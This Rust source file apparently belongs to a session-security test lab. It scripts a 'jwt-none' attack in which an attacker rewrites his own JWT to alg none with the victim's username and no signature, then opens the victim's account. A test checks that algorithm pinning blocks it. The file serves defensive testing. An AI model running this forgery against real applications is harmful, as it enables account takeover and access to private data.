//! `jwt-none`: rewrite one's own token to `alg: none` and the victim's name.
//!
//! The attacker signs in as himself and finds a JWT among his cookies. He
//! keeps its claims, sets `"sub"` to the victim, sets the header to
//! `{"alg": "none"}` and drops the signature. A verifier that reads the
//! algorithm from the token itself believes it; one that checks HS256
//! whatever the header says refuses it, and server-side sessions hand out
//! no token to rewrite. Against a target file's app, the token and its
//! identity claim are found as `forged-cookie` finds them.

use crate::actors::{OwnToken, judge, log_in, own_token, probe_account, read_own_note, short};
use crate::lab::{RunContext, RunError, plant_cookie};
use crate::outcome::{Actor, Verdict};
use crate::tokens;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let mut victim = ctx.browser(Actor::Victim, "victim");
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        "saw her private note",
    );

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    log_in(ctx, &mut attacker, &ctx.attacker).await?;
    let OwnToken {
        cookie,
        jwt,
        identity_claim,
    } = match own_token(ctx, &attacker, "there is no token to rewrite") {
        Ok(found) => found,
        Err(verdict) => return Ok(verdict),
    };

    let mut claims = jwt.claims.clone();
    claims.insert(identity_claim.clone(), ctx.victim.username.clone().into());
    let rewritten = tokens::unsigned(&claims);
    let proof = ctx.proof_url();
    let mut forger = ctx.browser(Actor::Attacker, "attacker-unsigned");
    plant_cookie(&mut forger, &proof, &cookie, &rewritten);
    let probe = probe_account(&mut forger, proof).await?;
    Ok(judge(
        ctx,
        &format!(
            "rewrote the token: header {{\"alg\": \"none\"}}, \"{identity_claim}\": \"{}\", no signature; opened {} with it",
            ctx.victim.username,
            ctx.target.proof_path()
        ),
        &probe,
        &note,
        &format!(
            "a token rewritten to alg none and {identity_claim} {} ({})",
            ctx.victim.username,
            short(&rewritten)
        ),
        "the unsigned token",
    ))
}

#[cfg(test)]
mod tests {
    use sessionlab_app::{Defense, Profile, ProfileName};

    use crate::actors::run_against;
    use crate::outcome::Outcome;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_pinned_algorithm_refuses_what_a_trusting_verifier_believes() {
        let pinned = Profile::new(ProfileName::Insecure).with(Defense::PinnedAlgorithm);
        let result = run_against("jwt-none", pinned).await;
        assert_eq!(result.outcome, Outcome::Blocked, "{}", result.evidence);
        assert!(
            result.evidence.contains("opened nothing"),
            "{}",
            result.evidence
        );

        let trusting = Profile::new(ProfileName::Hardened)
            .without(Defense::ServerSideSessions)
            .without(Defense::PinnedAlgorithm);
        let result = run_against("jwt-none", trusting).await;
        assert_eq!(result.outcome, Outcome::Compromised, "{}", result.evidence);
    }
}
